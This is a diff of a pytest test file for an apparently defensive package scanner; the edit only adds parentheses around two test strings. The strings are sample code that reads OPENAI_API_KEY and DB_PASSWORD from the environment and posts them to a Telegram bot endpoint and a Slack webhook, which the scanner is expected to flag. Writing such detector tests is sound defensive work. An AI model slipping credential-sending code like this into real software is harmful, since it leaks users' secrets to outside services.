@@ -50,11 +50,11 @@ def test_a_bot_with_its_own_token_is_the_service_api(tmp_path: Path) -> None:
 
 @pytest.mark.parametrize("code", [
     # another service's credential sent to the chat API in the message body
-    "import os, requests\nkey = os.environ.get('OPENAI_API_KEY')\n"
-    "requests.post('https://api.telegram.org/bot1:x/sendMessage', data={'chat_id': 1, 'text': key})\n",
+    ("import os, requests\nkey = os.environ.get('OPENAI_API_KEY')\n"
+    "requests.post('https://api.telegram.org/bot1:x/sendMessage', data={'chat_id': 1, 'text': key})\n"),
     # a credential of no known service
-    "import os, requests\nk = os.environ['DB_PASSWORD']\n"
-    "requests.post('https://hooks.slack.com/services/T0/B0/x', json={'text': k})\n",
+    ("import os, requests\nk = os.environ['DB_PASSWORD']\n"
+    "requests.post('https://hooks.slack.com/services/T0/B0/x', json={'text': k})\n"),
 ])
 def test_another_credential_to_a_chat_api_is_a_drop(tmp_path: Path, code: str) -> None:
     _, reasons = _scan(_package(tmp_path, "fmt", {"scripts/fmt.py": code}))
